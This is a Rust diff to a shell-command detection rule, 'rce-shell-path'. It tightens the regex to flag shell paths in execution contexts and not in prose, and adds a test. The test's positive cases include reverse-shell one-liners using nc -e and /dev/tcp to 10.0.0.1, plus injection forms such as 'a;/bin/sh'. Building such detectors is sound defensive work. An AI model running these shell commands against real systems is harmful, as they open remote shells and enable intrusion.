@@ -540,12 +540,16 @@ static RULES: &[Rule] = &[
         Shell,
         shell_patterns::LEADING_COMMAND,
     ),
+    // A shell's path where a command line runs it: the whole value, after a separator or `=`,
+    // after a flag (`nc -e /bin/sh`) or a word that runs its argument (`exec`, `sudo`), or
+    // with a flag or a redirection after it (`/bin/sh -i`, `/bin/sh <&196`). Prose names a
+    // shell between words ("compatible with ancient /bin/sh", "use /bin/bash to work around").
     rule(
         "rce-shell-path",
         Rce,
         5,
         Shell,
-        r"(?:^|[\s;&|`(=])/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|da|tc|c)?sh\b|(?:^|[\s;&|`(=])/(?:usr/)?s?bin/[a-z]+\s+-|\bmkfifo\s+(?:-m\s*\d+\s+)?(?:[/~.$]|[\w.-]+\s*(?:[;&|]|$))|\bbash\s+-i\b",
+        r"(?:^|[;&|`(=]\s*|\s-[a-z]{1,2}\s+|\b(?:exec|sudo|doas|su|nohup|env|xargs|chsh\s+-s)\s+)/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|da|tc|c)?sh\b|\s/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|da|tc|c)?sh\s*(?:-[a-z]|\d*[<>|;&])|(?:^|[\s;&|`(=])/(?:usr/)?s?bin/[a-z]+\s+-|\bmkfifo\s+(?:-m\s*\d+\s+)?(?:[/~.$]|[\w.-]+\s*(?:[;&|]|$))|\bbash\s+-i\b",
     ),
     // A redirection right after a command separator (`;> /etc/passwd`, `&& >> ~/.ssh/x`)
     // empties or appends to a file with no command at all. A lone `&` is left out (`cmd &>
@@ -1878,6 +1882,34 @@ mod tests {
                 "use mkfifo to create a named pipe",
                 "mkfifo(FIFO_NAME, Mode::S_IRWXU)?;",
                 "https://www.man7.org/linux/man-pages/man3/mkfifo.3.html",
+            ],
+        );
+    }
+
+    #[test]
+    fn a_shell_counts_where_it_runs_not_where_prose_names_it() {
+        assert_finds(
+            Forms::of(Form::Shell),
+            "rce-shell-path",
+            &[
+                "/bin/sh",
+                "a;/bin/sh",
+                "echo id | /bin/sh",
+                "x && /usr/local/bin/bash",
+                "nc -e /bin/sh 10.0.0.1 4444",
+                "nc 10.0.0.1 4444 -e /bin/bash",
+                "exec /bin/sh",
+                "sudo /bin/bash",
+                "find . -exec /bin/sh ;",
+                "user /bin/sh -c id",
+                "exec 196<>/dev/tcp/10.0.0.1/4242; /bin/sh <&196 >&196 2>&196",
+                "shell=/bin/zsh",
+            ],
+            &[
+                "fixed test script compatibility with ancient /bin/sh",
+                "use /bin/bash to work around a job handling issue in dash.",
+                "up to 15% speedup with dash as /bin/sh, and",
+                "freebsd's /bin/sh does not support that",
             ],
         );
     }
